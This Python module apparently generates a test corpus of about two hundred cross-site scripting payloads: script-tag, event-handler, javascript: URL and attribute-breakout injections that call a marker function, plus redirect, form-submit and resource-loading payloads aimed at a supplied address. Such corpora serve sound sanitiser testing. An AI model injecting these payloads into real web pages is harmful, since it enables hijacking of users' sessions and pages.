"""Two hundred ways in which a page's words try to become a page's script: each calls fired(n), or goes elsewhere."""

from __future__ import annotations

_CALLS = (
    "fired(1)",
    "fired`1`",
    "self['fired'](1)",
    "top.fired(1)",
    "setTimeout('fired(1)')",
    "import(`javascript:fired(1)`)",
)
_SHAPES = (
    "<script>{c}</script>",
    "<ScRiPt>{c}</sCrIpT>",
    "</title><script>{c}</script>",
    "</textarea><script>{c}</script>",
    "--><script>{c}</script>",
    "]]><script>{c}</script>",
    "<img src=x onerror={c}>",
    "<img src=x onerror='{c}'>",
    "<svg onload={c}>",
    "<svg><script>{c}</script></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<math><mtext><script>{c}</script>",
    "<body onload={c}>",
    "<iframe srcdoc='<script>parent.{c}</script>'></iframe>",
    '<iframe src="javascript:parent.{c}"></iframe>',
    '<object data="javascript:{c}"></object>',
    '<embed src="javascript:{c}">',
    "<details open ontoggle={c}>",
    "<input autofocus onfocus={c}>",
    "<select autofocus onfocus={c}></select>",
    "<video><source onerror={c}></video>",
    "<audio src=x onerror={c}>",
    "<marquee onstart={c}>",
    '<a href="javascript:{c}" autofocus onfocus={c}>x</a>',
    '<form action="javascript:{c}"><button autofocus onfocus={c}>',
    "<style onload={c}></style>",
    "<link rel=stylesheet href=data:text/css,x onload={c}>",
    '" autofocus onfocus={c} x="',
    "' autofocus onfocus={c} x='",
    '"><script>{c}</script>',
    "{{{{{c}}}}}",
)
_ELSEWHERE = (
    "<meta http-equiv=refresh content='0;url={e}'>",
    "<base href='{e}'>",
    "<img src='{e}i'>",
    "<link rel=prefetch href='{e}p'>",
    "<link rel=stylesheet href='{e}s'>",
    "<style>@import '{e}c'; body {{ background: url({e}b) }}</style>",
    "<form action='{e}f' method=post><button autofocus>x</button></form><script>document.forms[0].submit()</script>",
    "<iframe src='{e}f'></iframe>",
    "<video poster='{e}v'></video>",
    "<a href='{e}' target=_top autofocus>x</a><script>document.links[0].click()</script>",
    "<script src='{e}js'></script>",
    "<object data='{e}o'></object>",
    "<script>top.location='{e}'</script>",
    "<script>window.open('{e}')</script>",
)


def payloads(elsewhere: str) -> list[str]:
    """All of them; those that reach out ask for an address under `elsewhere` (which ends with a slash)."""
    running = [shape.format(c=call) for shape in _SHAPES for call in _CALLS]
    return running + [shape.format(e=elsewhere) for shape in _ELSEWHERE]
